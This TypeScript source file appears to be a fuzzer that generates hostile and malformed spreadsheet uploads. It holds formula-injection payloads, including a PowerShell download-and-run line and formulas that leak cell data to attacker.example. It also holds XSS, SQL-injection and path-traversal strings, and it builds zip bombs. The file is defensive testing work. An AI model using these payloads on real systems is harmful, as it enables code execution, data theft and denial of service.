// Hostile and malformed files for the upload fuzzer, each made from a seeded Random so that a run
// is repeatable. Most are under 1 MB; a few are several MB. Every generator has a name, which the
// fuzzer reports with the answers it got.
import { crc32, createDeflateRaw, deflateRawSync, gzipSync } from 'node:zlib';
import type { Random } from './random.ts';
import { columnName, escapeXml, stylesXml, workbookParts, workbookRelsXml, workbookXml } from './workbook.ts';
import { centralHeader, localHeader, type ReadPart, unzip, type ZipPart, zip } from './zip.ts';

export type FileFormat = 'csv' | 'xlsx' | 'other';

export interface GeneratedFile {
  /** Which generator made it, like "zip-bomb/lying-size". */
  generator: string;
  bytes: Buffer;
  format: FileFormat;
}

/** A kind's template as the server gave it: its CSV read into rows, and its XLSX as bytes. */
export interface Template {
  headers: string[];
  rows: string[][];
  xlsx: Buffer;
  sheetName: string;
}

export interface FileContext {
  kind: string;
  template: Template;
  /** Today in England as dd/mm/yyyy: a date that is valid for a recommendation. */
  today: string;
  /** HESA IDs of the identity's own trainees (the university's; none for the SCITT). */
  hesaIds: string[];
  bombs: Bombs;
}

/** A deflated run that inflates to `size` bytes whose CRC-32 is `crc`. */
export interface Bomb {
  compressed: Buffer;
  size: number;
  crc: number;
}

export interface Bombs {
  /** A worksheet of 256 MB of spaces between its tags. */
  spaces: Bomb;
  /** A worksheet of 128 MB of the same row again and again. */
  rows: Bomb;
  /** 64 MB of spaces, for nesting and overlapping. */
  small: Bomb;
  /**
   * A real worksheet of 100,000 rows of 12 cells (about 80 MB of XML, compressed about 30 to 1):
   * under every limit, so the reader has to read all of it.
   */
  bigSheet: Bomb;
}

const MB = 1024 * 1024;
const SHEET_OPEN = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
);
const SHEET_CLOSE = Buffer.from('</sheetData></worksheet>');

/** Deflates open + filler repeated to `size` + close, a piece at a time (never the whole in memory). */
async function makeBomb(filler: Buffer, size: number): Promise<Bomb> {
  const piece = Buffer.alloc(MB);
  for (let at = 0; at < MB; at += filler.length) filler.copy(piece, at);
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = crc32(SHEET_OPEN);
  const write = async (chunk: Buffer) => {
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  };
  await write(SHEET_OPEN);
  const pieces = Math.floor(size / MB);
  for (let i = 0; i < pieces; i++) {
    crc = crc32(piece, crc);
    await write(piece);
  }
  crc = crc32(SHEET_CLOSE, crc);
  await write(SHEET_CLOSE);
  deflate.end();
  await done;
  return { compressed: Buffer.concat(out), size: SHEET_OPEN.length + pieces * MB + SHEET_CLOSE.length, crc };
}

/** Deflates the pieces, in order, as one part. */
async function deflatePieces(pieces: Iterable<Buffer>): Promise<Bomb> {
  const deflate = createDeflateRaw({ level: 6 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = 0;
  let size = 0;
  for (const piece of pieces) {
    crc = crc32(piece, crc);
    size += piece.length;
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return { compressed: Buffer.concat(out), size, crc };
}

function* bigSheetPieces(headers: string[]): Generator<Buffer> {
  yield SHEET_OPEN;
  const columns = 12;
  const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${escapeXml(text)}</t></is></c>`;
  yield Buffer.from(
    `<row r="1">${Array.from({ length: columns }, (_, c) => cell(`${columnName(c)}1`, headers[c] ?? `Column ${c}`)).join('')}</row>`,
  );
  let batch: string[] = [];
  for (let row = 2; row <= 100_001; row++) {
    const cells = Array.from({ length: columns }, (_, c) =>
      c === 0 ? `<c r="A${row}"><v>${2_000_000 + row}</v></c>` : cell(`${columnName(c)}${row}`, `R${row}C${c}`),
    );
    batch.push(`<row r="${row}">${cells.join('')}</row>`);
    if (batch.length === 1_000) {
      yield Buffer.from(batch.join(''));
      batch = [];
    }
  }
  if (batch.length) yield Buffer.from(batch.join(''));
  yield SHEET_CLOSE;
}

/** Made once a run, before the requests (a few seconds). */
export async function makeBombs(headers: string[]): Promise<Bombs> {
  return {
    spaces: await makeBomb(Buffer.from(' '), 256 * MB),
    rows: await makeBomb(Buffer.from('<row><c t="inlineStr"><is><t>x</t></is></c></row>'), 128 * MB),
    small: await makeBomb(Buffer.from(' '), 64 * MB),
    bigSheet: await deflatePieces(bigSheetPieces(headers)),
  };
}

// ---------------------------------------------------------------------------------------------
// CSV

function csvCell(value: string, delimiter: string): string {
  return value.includes(delimiter) || /["\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

export function toCsv(
  rows: string[][],
  { delimiter = ',', newline = '\r\n', bom = false }: { delimiter?: string; newline?: string; bom?: boolean } = {},
): string {
  const text =
    rows.map((row) => Array.from(row, (cell) => csvCell(cell ?? '', delimiter)).join(delimiter)).join(newline) +
    newline;
  return bom ? `\uFEFF${text}` : text;
}

const csv = (generator: string, text: string | Buffer): GeneratedFile => ({
  generator,
  bytes: typeof text === 'string' ? Buffer.from(text, 'utf8') : text,
  format: 'csv',
});
const xlsx = (generator: string, bytes: Buffer): GeneratedFile => ({ generator, bytes, format: 'xlsx' });

const copyRows = (rows: string[][]) => rows.map((row) => [...row]);
const sample = (r: Random, rows: string[][], count: number) =>
  Array.from({ length: count }, () => [...r.pick(rows.length ? rows : [[]])]);

/** The template's rows, or a few made-up ones when it has none (HESA's template is blank). */
function someRows(r: Random, ctx: FileContext): string[][] {
  if (ctx.template.rows.length) return copyRows(ctx.template.rows);
  return Array.from({ length: r.int(1, 40) }, () => ctx.template.headers.map(() => r.hex(r.int(1, 6))));
}

// ---------------------------------------------------------------------------------------------
// Cell values a careless or hostile sheet holds

const BAD_DATES = [
  '32/01/2025',
  '29/02/2025',
  '31/04/2025',
  '00/00/0000',
  '2025-13-01',
  '2025-02-30',
  '1/1/1',
  '99999',
  '2958466',
  '-1',
  '0',
  '60',
  '45000.5',
  '1e10',
  '1e308',
  'NaN',
  'Infinity',
  'tomorrow',
  '٢٧/٠٣/٢٠٢٥',
  '２７/０３/２０２５',
  '27/03/2025 25:61',
  '27.03.2025',
  '27-03-2025',
  '2025/03/27',
  '03/27/2025',
  '27/3/25',
  '2025-03-27T00:00:00Z',
  '27/03/20255',
  '9999-12-31',
  '0001-01-01',
  '1900-02-29',
  "'27/03/2025",
  '=DATE(2025,3,27)',
  '27\u200b/03/2025',
  '27/03/2025\u202e',
  ' 27 / 03 / 2025 ',
  '27/03/-2025',
  '+27/03/2025',
  '𝟐𝟕/𝟎𝟑/𝟐𝟎𝟐𝟓',
];

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker/x)'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '=1+1',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '＝1+1',
  "'=1+1",
  '=IMPORTXML(CONCAT("http://attacker.example/", A1), "//a")',
  '-@SUM(A1)',
  "+cmd|' /C notepad'!A0",
];

const ODD_TEXT = [
  '',
  ' ',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '\u202e',
  '\u0000',
  '\\',
  '"',
  "'",
  '<script>alert(1)</script>',
  '{{ 7 * 7 }}',
  '{% raw %}',
  '$' + '{7*7}',
  "'; drop table uploads; --",
  '%s%s%s%n',
  '../../../../etc/passwd',
  '𝕏'.repeat(50),
  'Ω≈ç√∫',
  'ｱｲｳ',
  '👩‍👩‍👧‍👦',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  '\ud800',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  '1e999',
  '-0',
  '0x10',
  '٠١٢٣٤٥٦',
];

const HEADER_RENAMES: ((header: string, r: Random) => string)[] = [
  (h) => h.toUpperCase(),
  (h) => h.toLowerCase(),
  (h) => h.replaceAll(' ', ''),
  (h) => h.replaceAll(' ', '_'),
  (h) => `  ${h}  `,
  (h) => `${h}?`,
  (h) => h.slice(0, Math.max(1, h.length - 1)),
  (h) => `${h}\u200b`,
  (h) => `\u202e${h}`,
  (h) => `${h}\u0000`,
  (h) => h.replace(/o/g, 'о'), // Cyrillic o
  () => '',
  (h, r) => `${h} ${r.int(1, 9)}`,
  (_, r) => r.pick(FORMULAS),
  (_, r) => 'x'.repeat(r.size(100, 40_000)),
  (h) => `"${h}"`,
  (h) => h.split('').reverse().join(''),
];

function garbleCell(r: Random, value: string): string {
  return r.weighted<() => string>([
    [3, () => r.pick(BAD_DATES)],
    [2, () => r.pick(ODD_TEXT)],
    [1, () => r.pick(FORMULAS)],
    [1, () => `${value}${r.pick(ODD_TEXT)}`],
    [1, () => value.replace(/\d/g, (d) => String.fromCharCode(0x660 + Number(d)))],
    [1, () => (value ? `${value.slice(0, -1)}${r.int(0, 9)}${r.int(0, 9)}` : r.hex(3))],
    [1, () => ` ${value} `],
    [1, () => (/^\d+$/.test(value) ? `${Number(value).toExponential()}` : value)],
  ])();
}

/** A recommendation date, URN or HESA row that the kind accepts, for `row`. */
function fillValid(r: Random, ctx: FileContext, headers: string[], row: string[]): void {
  const at = (name: string) => headers.findIndex((h) => h.toLowerCase() === name.toLowerCase());
  const date = at('Date QTS or EYTS standards met');
  if (date >= 0) row[date] = ctx.today;
  const urn = at('Placement 1 URN');
  if (urn >= 0) row[urn] = String(100_001 + r.int(0, 59));
  const school = at('PLMNTSCH');
  if (school >= 0) {
    row[school] = String(100_001 + r.int(0, 59));
    const husid = at('HUSID');
    if (husid >= 0) row[husid] = ctx.hesaIds.length ? r.pick(ctx.hesaIds) : String(r.int(1e12, 9e12));
    const start = at('PLMNTSTDATE');
    if (start >= 0) row[start] = r.chance(0.5) ? ctx.today : '';
  }
}

// ---------------------------------------------------------------------------------------------
// The generators

type FileMaker = (r: Random, ctx: FileContext) => GeneratedFile;

/** Random bytes, sometimes behind the first bytes of a format (ZIP, BOM, CSV, XML). */
const randomBytes: FileMaker = (r) => {
  const prefix = r.pick([
    Buffer.alloc(0),
    Buffer.from('PK\u0003\u0004', 'latin1'),
    Buffer.from('PK\u0005\u0006', 'latin1'),
    Buffer.from([0xef, 0xbb, 0xbf]),
    Buffer.from([0xff, 0xfe]),
    Buffer.from([0xfe, 0xff]),
    Buffer.from('TRN,Date QTS or EYTS standards met\r\n'),
    Buffer.from('<?xml version="1.0"?>'),
  ]);
  const length = r.weighted([
    [6, () => r.size(1, 64 * 1024)],
    [3, () => r.size(64 * 1024, 900 * 1024)],
    [1, () => r.size(1 * MB, 4 * MB)],
  ])();
  return {
    generator: `random-bytes/${prefix.length ? 'prefixed' : 'plain'}`,
    bytes: Buffer.concat([prefix, r.bytes(length)]),
    format: 'other',
  };
};

/** The template's rows, mutated a few times over: the sheet a person got wrong. */
function mutatedRows(r: Random, ctx: FileContext): { rows: string[][]; operations: string[] } {
  const headers = [...ctx.template.headers];
  let rows = someRows(r, ctx);
  const operations: string[] = [];
  const count = r.int(1, 6);
  for (let i = 0; i < count; i++) {
    const operation = r.weighted<string>([
      [3, 'swap-cells'],
      [2, 'swap-columns'],
      [2, 'duplicate-rows'],
      [3, 'rename-header'],
      [3, 'garble-dates'],
      [2, 'garble-cells'],
      [1, 'drop-column'],
      [1, 'add-columns'],
      [1, 'blank-rows'],
      [1, 'junk-above-header'],
      [1, 'no-header'],
      [3, 'fill-valid'],
      [1, 'shuffle-rows'],
      [1, 'ragged-rows'],
      [0.3, 'many-rows'],
    ]);
    operations.push(operation);
    const width = Math.max(1, headers.length);
    switch (operation) {
      case 'swap-cells':
        for (let n = r.int(1, 50); n > 0 && rows.length; n--) {
          const row = r.pick(rows);
          const a = r.int(0, width - 1);
          const b = r.int(0, width - 1);
          [row[a], row[b]] = [row[b] ?? '', row[a] ?? ''];
        }
        break;
      case 'swap-columns': {
        const a = r.int(0, width - 1);
        const b = r.int(0, width - 1);
        for (const row of [headers, ...rows]) [row[a], row[b]] = [row[b] ?? '', row[a] ?? ''];
        break;
      }
      case 'duplicate-rows':
        rows = rows.concat(sample(r, rows, r.size(1, 2_000)));
        break;
      case 'rename-header': {
        const at = r.int(0, width - 1);
        headers[at] = r.pick(HEADER_RENAMES)(headers[at] ?? '', r);
        break;
      }
      case 'garble-dates': {
        const dateColumns = headers.flatMap((h, at) => (/date|PLMNTSTDATE/i.test(h) ? [at] : []));
        for (const row of rows) {
          if (!r.chance(0.3)) continue;
          const at = dateColumns.length ? r.pick(dateColumns) : r.int(0, width - 1);
          row[at] = r.pick(BAD_DATES);
        }
        break;
      }
      case 'garble-cells':
        for (let n = r.int(1, 200); n > 0 && rows.length; n--) {
          const row = r.pick(rows);
          const at = r.int(0, width - 1);
          row[at] = garbleCell(r, row[at] ?? '');
        }
        break;
      case 'drop-column': {
        const at = r.int(0, width - 1);
        for (const row of [headers, ...rows]) row.splice(at, 1);
        break;
      }
      case 'add-columns': {
        const extra = r.int(1, 30);
        for (let n = 0; n < extra; n++) headers.push(r.chance(0.3) ? r.pick(headers) : `Extra ${r.hex(2)}`);
        for (const row of rows) for (let n = 0; n < extra; n++) row.push(r.chance(0.5) ? r.pick(ODD_TEXT) : '');
        break;
      }
      case 'blank-rows':
        for (let n = r.int(1, 500); n > 0; n--)
          rows.splice(r.int(0, rows.length), 0, r.chance(0.5) ? [] : headers.map(() => r.pick(['', ' ', '\t'])));
        break;
      case 'junk-above-header':
        rows.unshift(headers.slice());
        headers.splice(0, headers.length, ...headers.map(() => r.pick(['', 'Rollbook', r.pick(ODD_TEXT)])));
        break;
      case 'no-header':
        headers.splice(0, headers.length, ...(rows.shift() ?? []));
        break;
      case 'fill-valid':
        for (let n = r.int(1, 30); n > 0 && rows.length; n--) fillValid(r, ctx, headers, r.pick(rows));
        break;
      case 'shuffle-rows':
        r.shuffle(rows);
        break;
      case 'ragged-rows':
        for (const row of rows) if (r.chance(0.3)) row.length = r.int(0, width * 2);
        for (const row of rows) for (let c = 0; c < row.length; c++) row[c] ??= '';
        break;
      case 'many-rows': {
        // Past the background-check threshold (5,000 rows) or past the limit (100,000 rows).
        const target = r.pick([5_001, 5_500, 7_000, 100_001, 100_500]);
        const filler = headers.map(() => '');
        if (filler.length > 1) filler[1] = 'nobody';
        while (rows.length < target) rows.push(r.chance(0.9) ? [...filler] : [...r.pick(rows)]);
        break;
      }
    }
  }
  return { rows: [headers, ...rows], operations };
}

function csvOf(r: Random, rows: string[][]): Buffer {
  return Buffer.from(
    toCsv(rows, {
      delimiter: r.weighted([
        [8, ','],
        [1, ';'],
        [1, '\t'],
        [0.3, '|'],
      ]),
      newline: r.pick(['\r\n', '\n', '\r']),
      bom: r.chance(0.5),
    }),
  );
}

const templateMutated: FileMaker = (r, ctx) => {
  const { rows, operations } = mutatedRows(r, ctx);
  return csv(`template-mutated/${operations[0]}`, csvOf(r, rows));
};

const templateXlsxMutated: FileMaker = (r, ctx) => {
  const { rows, operations } = mutatedRows(r, ctx);
  if (rows.length > 20_000) rows.length = 20_000;
  const options = {
    sheetName: r.chance(0.8) ? ctx.template.sheetName : r.pick(['Sheet1', '', 'x'.repeat(31), '<&>']),
    sharedStrings: r.chance(0.5),
  };
  return xlsx(`template-xlsx-mutated/${operations[0]}`, zip(workbookParts(rows, options)));
};

/** The real XLSX template, its cells' text changed in place. */
const realXlsxMutated: FileMaker = (r, ctx) => {
  const parts = unzip(ctx.template.xlsx);
  for (const part of parts) {
    if (!part.name.includes('worksheets/') && !part.name.includes('sharedStrings')) continue;
    part.data = Buffer.from(
      part.data
        .toString('utf8')
        .replace(/<t( [^>]*)?>([^<]*)<\/t>/g, (whole, attributes = '', text: string) =>
          r.chance(0.1) ? `<t${attributes}>${escapeXml(garbleCell(r, text))}</t>` : whole,
        ),
    );
  }
  return xlsx('real-xlsx-mutated', zip(parts.map((p) => ({ name: p.name, data: p.data }))));
};

/** What a kind accepts: the template with valid values in some rows. */
const valid: FileMaker = (r, ctx) => {
  const headers = ctx.template.headers;
  const rows = someRows(r, ctx).slice(0, r.int(1, 600));
  if (!ctx.template.rows.length) for (const row of rows) row.fill('');
  for (const row of rows) if (!ctx.template.rows.length || r.chance(0.1)) fillValid(r, ctx, headers, row);
  if (r.chance(0.3)) {
    return xlsx(
      'valid/xlsx',
      zip(workbookParts([headers, ...rows], { sheetName: ctx.template.sheetName, sharedStrings: r.chance(0.5) })),
    );
  }
  return csv('valid/csv', toCsv([headers, ...rows], { bom: r.chance(0.5) }));
};

/** One cell of 100 KB to 5 MB (most under 1 MB). */
const hugeCell: FileMaker = (r, ctx) => {
  const rows = [ctx.template.headers, ...someRows(r, ctx).slice(0, r.int(1, 50))];
  const size = r.chance(0.85) ? r.size(100 * 1024, 1 * MB) : r.size(1 * MB, 5 * MB);
  const content = r.weighted<() => string>([
    [3, () => 'A'.repeat(size)],
    [1, () => r.bytes(Math.floor(size * 0.75)).toString('base64')],
    [1, () => 'a,b;c\t"d"\n'.repeat(Math.floor(size / 10))],
    [1, () => '2025'.repeat(Math.floor(size / 4))],
  ])();
  const row = r.int(0, rows.length - 1);
  rows[row] = [...rows[row]];
  rows[row][r.int(0, Math.max(0, rows[row].length - 1))] = content;
  if (r.chance(0.25)) {
    return xlsx(
      'huge-cell/xlsx',
      zip(workbookParts(rows, { sheetName: ctx.template.sheetName, sharedStrings: r.chance(0.5) })),
    );
  }
  return csv(`huge-cell/${row === 0 ? 'header' : 'row'}`, toCsv(rows));
};

/** Thousands of columns. */
const manyColumns: FileMaker = (r, ctx) => {
  const columns = r.size(1_000, 20_000);
  const headers = [...ctx.template.headers];
  while (headers.length < columns)
    headers.push(r.chance(0.05) ? r.pick(ctx.template.headers) : `Column ${headers.length}`);
  r.shuffle(headers);
  const rowCount = Math.max(1, Math.min(60, Math.floor(700_000 / (columns * 6))));
  const rows = Array.from({ length: rowCount }, () => headers.map(() => (r.chance(0.2) ? r.hex(2) : '')));
  if (r.chance(0.3))
    return xlsx('many-columns/xlsx', zip(workbookParts([headers, ...rows], { sheetName: ctx.template.sheetName })));
  return csv('many-columns/csv', toCsv([headers, ...rows]));
};

/** NUL bytes: scattered, as delimiters, or the whole file. */
const nulBytes: FileMaker = (r, ctx) => {
  const text = Buffer.from(toCsv([ctx.template.headers, ...someRows(r, ctx)]));
  const variant = r.pick(['scattered', 'delimiters', 'only', 'header', 'trailing']);
  let bytes: Buffer;
  switch (variant) {
    case 'scattered':
      bytes = Buffer.from(text);
      for (let n = r.int(1, 100); n > 0; n--) bytes[r.int(0, bytes.length - 1)] = 0;
      break;
    case 'delimiters':
      bytes = Buffer.from(text.toString('utf8').replaceAll(',', '\u0000'));
      break;
    case 'only':
      bytes = Buffer.alloc(r.size(1, 256 * 1024));
      break;
    case 'header':
      bytes = Buffer.from(text.toString('utf8').replace(',', ',\u0000'));
      break;
    default:
      bytes = Buffer.concat([text, Buffer.alloc(r.int(1, 1000))]);
  }
  return csv(`nul-bytes/${variant}`, bytes);
};

function swap16(buffer: Buffer): Buffer {
  const even = buffer.length - (buffer.length % 2);
  const out = Buffer.from(buffer);
  out.subarray(0, even).swap16();
  return out;
}

/** UTF-16 without a byte order mark, Latin-1 amid UTF-8, broken sequences. */
const mixedEncodings: FileMaker = (r, ctx) => {
  const rows = [ctx.template.headers, ...someRows(r, ctx).slice(0, r.int(1, 300))];
  for (const row of rows.slice(1))
    if (r.chance(0.3))
      row[r.int(0, row.length - 1)] = r.pick([
        'Zoë',
        'Søren',
        'Ñoño',
        'Łukasz',
        'Siân',
        'Œuvre “quoted”',
        'Ærøskøbing',
        '€100',
      ]);
  const text = toCsv(rows);
  const variant = r.pick([
    'utf16le-no-bom',
    'utf16be-no-bom',
    'utf16-odd-length',
    'utf8-bom-then-utf16',
    'latin1-rows',
    'invalid-utf8',
    'overlong-utf8',
    'utf32-bom',
    'utf7',
    'cp1252-quotes',
    'utf16-lone-surrogates',
  ]);
  let bytes: Buffer;
  switch (variant) {
    case 'utf16le-no-bom':
      bytes = Buffer.from(text, 'utf16le');
      break;
    case 'utf16be-no-bom':
      bytes = swap16(Buffer.from(text, 'utf16le'));
      break;
    case 'utf16-odd-length':
      bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le'), Buffer.from([0x41])]);
      break;
    case 'utf8-bom-then-utf16':
      bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf16le')]);
      break;
    case 'latin1-rows': {
      const lines = text.split('\r\n');
      bytes = Buffer.concat(lines.map((line) => Buffer.from(`${line}\r\n`, r.chance(0.5) ? 'latin1' : 'utf8')));
      break;
    }
    case 'invalid-utf8': {
      bytes = Buffer.from(text);
      for (let n = r.int(1, 200); n > 0; n--) bytes[r.int(0, bytes.length - 1)] = r.int(0x80, 0xff);
      break;
    }
    case 'overlong-utf8':
      bytes = Buffer.concat([
        Buffer.from(text),
        Buffer.from([0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80]),
      ]);
      break;
    case 'utf32-bom':
      bytes = Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x00]), Buffer.from(text, 'utf16le')]);
      break;
    case 'utf16-lone-surrogates': {
      // UTF-16 can hold half a character, which UTF-8 cannot: in a heading and in cells.
      const broken = rows.map((row, r0) =>
        row.map((cell) => (r0 === 0 || r.chance(0.05) ? `${cell}${r.pick(['\ud800', '\udfff', '\ud835'])}` : cell)),
      );
      bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(toCsv(broken), 'utf16le')]);
      break;
    }
    case 'utf7':
      bytes = Buffer.from(`+/v8-${text.replace(/[^\x20-\x7e\r\n]/g, '+AGE-')}`);
      break;
    default:
      bytes = Buffer.from(
        text.replace(/[^\r\n,]{3}/g, (m) => (r.chance(0.05) ? `\u201c${m}\u201d` : m)),
        'latin1',
      );
  }
  return csv(`encoding/${variant}`, bytes);
};

/** Quotes opened and never closed, quotes mid-field, CR-only lines. */
const brokenQuotes: FileMaker = (r, ctx) => {
  const rows = [ctx.template.headers, ...someRows(r, ctx).slice(0, r.int(1, 500))];
  const lines = rows.map((row) => row.join(','));
  const variant = r.pick(['unclosed', 'mid-field', 'after-close', 'triple', 'cr-only', 'unclosed-long', 'last-char']);
  switch (variant) {
    case 'unclosed': {
      const at = r.int(0, lines.length - 1);
      lines[at] = lines[at].replace(',', ',"');
      break;
    }
    case 'mid-field':
      for (let i = 1; i < lines.length; i++) if (r.chance(0.3)) lines[i] = lines[i].replace(/,([^,]{2})/, ',$1"x');
      break;
    case 'after-close':
      for (let i = 1; i < lines.length; i++) if (r.chance(0.3)) lines[i] = lines[i].replace(/,([^,]*)/, ',"$1"junk');
      break;
    case 'triple':
      for (let i = 1; i < lines.length; i++) if (r.chance(0.3)) lines[i] = `"""${lines[i]}`;
      break;
    case 'cr-only':
      return csv('broken-quotes/cr-only', `${lines.join('\r')}\r"`);
    case 'unclosed-long':
      lines.push(`"${'z'.repeat(r.size(32_000, 200_000))}`);
      break;
    default:
      lines.push('"');
  }
  return csv(`broken-quotes/${variant}`, `${lines.join('\r\n')}\r\n`);
};

/** A formula in every column, in a CSV or as XLSX formula cells. */
const formulas: FileMaker = (r, ctx) => {
  const keepHeaders = r.chance(0.8);
  const body = someRows(r, ctx)
    .slice(0, r.int(1, 400))
    .map((row) => row.map(() => r.pick(FORMULAS)));
  const rows = [keepHeaders ? ctx.template.headers : ctx.template.headers.map(() => r.pick(FORMULAS)), ...body];
  if (r.chance(0.35)) {
    const rawCells = new Map<string, string>();
    const formulaCells = [
      'SUM(1,1)',
      'NOW()',
      'A1&B1',
      'HYPERLINK("http://attacker.example")',
      '1/0',
      "cmd|' /C calc'!A0",
    ];
    for (let i = 0; i < body.length; i++) {
      for (let c = 0; c < body[i].length; c++) {
        if (!r.chance(0.5)) continue;
        const formula = escapeXml(r.pick(formulaCells));
        rawCells.set(
          `${i + 1},${c}`,
          `<c r="{ref}"><f>${formula}</f><v>${r.pick(['2', '45000', '#DIV/0!', '1e308', '-1', 'x'])}</v></c>`,
        );
      }
    }
    return xlsx('formulas/xlsx', zip(workbookParts(rows, { sheetName: ctx.template.sheetName, rawCells })));
  }
  return csv(`formulas/csv${keepHeaders ? '' : '-headers'}`, toCsv(rows));
};

/** Empty and next to empty. */
const emptyish: FileMaker = (r, ctx) => {
  const variant = r.pick(['empty', 'bom', 'newlines', 'commas', 'header-only', 'header-blank-rows', 'spaces', 'quote']);
  const text: Record<string, () => Buffer> = {
    empty: () => Buffer.alloc(0),
    bom: () => Buffer.from([0xef, 0xbb, 0xbf]),
    newlines: () => Buffer.from('\r\n'.repeat(r.int(1, 10_000))),
    commas: () => Buffer.from(','.repeat(r.int(1, 10_000))),
    'header-only': () => Buffer.from(toCsv([ctx.template.headers])),
    'header-blank-rows': () =>
      Buffer.from(
        toCsv([
          ctx.template.headers,
          ...Array.from({ length: r.int(1, 3000) }, () => ctx.template.headers.map(() => '')),
        ]),
      ),
    spaces: () => Buffer.from(' '.repeat(r.int(1, 100_000))),
    quote: () => Buffer.from('"'),
  };
  return csv(`empty/${variant}`, text[variant]());
};

/** Other formats: old Excel, PDF, images, gzip, OpenDocument, Word, HTML, JSON, XML. */
const otherFormats: FileMaker = (r, ctx) => {
  const csvText = toCsv([ctx.template.headers, ...someRows(r, ctx).slice(0, 50)]);
  const variant = r.pick([
    'xls',
    'pdf',
    'png',
    'gzip',
    'ods',
    'docx',
    'html',
    'json',
    'xml-2003',
    'rtf',
    'empty-zip',
    'exe',
  ]);
  const make: Record<string, () => Buffer> = {
    xls: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), r.bytes(r.size(512, 64 * 1024))]),
    pdf: () => Buffer.from(`%PDF-1.7\n1 0 obj <<>> stream\n${csvText}\nendstream endobj\n%%EOF`),
    png: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), r.bytes(r.size(64, 64 * 1024))]),
    gzip: () => gzipSync(csvText),
    ods: () =>
      zip([
        { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.spreadsheet'), method: 0 },
        {
          name: 'content.xml',
          data: Buffer.from(`<office:document-content>${escapeXml(csvText)}</office:document-content>`),
        },
      ]),
    docx: () =>
      zip([{ name: 'word/document.xml', data: Buffer.from(`<w:document>${escapeXml(csvText)}</w:document>`) }]),
    html: () =>
      Buffer.from(
        `<table>${csvText
          .split('\r\n')
          .map((line) => `<tr><td>${line.split(',').join('</td><td>')}</td></tr>`)
          .join('')}</table>`,
      ),
    json: () => Buffer.from(JSON.stringify(ctx.template.rows.slice(0, 50))),
    'xml-2003': () =>
      Buffer.from(
        `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table>${escapeXml(csvText)}</Table></Worksheet></Workbook>`,
      ),
    rtf: () => Buffer.from(`{\\rtf1\\ansi ${csvText}}`),
    'empty-zip': () => zip([]),
    exe: () => Buffer.concat([Buffer.from('MZ'), r.bytes(r.size(64, 32 * 1024))]),
  };
  return {
    generator: `other-format/${variant}`,
    bytes: make[variant](),
    format: variant === 'ods' || variant === 'docx' || variant === 'empty-zip' ? 'xlsx' : 'other',
  };
};

// ---------------------------------------------------------------------------------------------
// Broken ZIPs, bombs and garbled workbooks

/** The workbook the ZIP generators break: the real template, or one built from its rows. */
function baseParts(r: Random, ctx: FileContext): ZipPart[] {
  if (r.chance(0.4)) return unzip(ctx.template.xlsx).map((part: ReadPart) => ({ name: part.name, data: part.data }));
  const rows = [ctx.template.headers, ...someRows(r, ctx).slice(0, r.int(1, 200))];
  return workbookParts(rows, { sheetName: ctx.template.sheetName, sharedStrings: r.chance(0.5) });
}

const sheetPart = (parts: ZipPart[]) =>
  parts.find((p) => typeof p.name === 'string' && /worksheets\/sheet\d*\.xml$/i.test(p.name)) ??
  parts[parts.length - 1];

function directoryStart(bytes: Buffer): number {
  for (let i = bytes.length - 22; i >= 0; i--)
    if (bytes.readUInt32LE(i) === 0x06054b50) return bytes.readUInt32LE(i + 16);
  return bytes.length;
}

const brokenZip: FileMaker = (r, ctx) => {
  const parts = baseParts(r, ctx);
  const variant = r.pick([
    'truncated',
    'central-directory-garbage',
    'directory-offset',
    'entry-count',
    'crc-mismatch',
    'size-smaller',
    'size-larger',
    'compressed-size',
    'method',
    'encrypted',
    'duplicate-entries',
    'many-entries',
    'prefix-junk',
    'trailing-junk',
    'zip64-sizes',
    'long-comment',
    'bad-deflate',
    'names',
  ]);
  const sheet = sheetPart(parts);
  let bytes: Buffer;
  switch (variant) {
    case 'truncated': {
      const whole = zip(parts);
      bytes = whole.subarray(0, r.int(1, whole.length - 1));
      break;
    }
    case 'central-directory-garbage': {
      bytes = zip(parts);
      const start = directoryStart(bytes);
      for (let n = r.int(1, 40); n > 0; n--) bytes[r.int(start, bytes.length - 1)] = r.int(0, 255);
      break;
    }
    case 'directory-offset':
      bytes = zip(parts, { directoryOffsetShift: r.pick([-1, 1, 4, -30, 1_000_000, -1_000_000, 0x7fffffff]) });
      break;
    case 'entry-count':
      bytes = zip(parts, { entryCount: r.pick([0, 1, parts.length + 1, 0xffff]) });
      break;
    case 'crc-mismatch':
      sheet.crc = r.uint32();
      bytes = zip(parts);
      break;
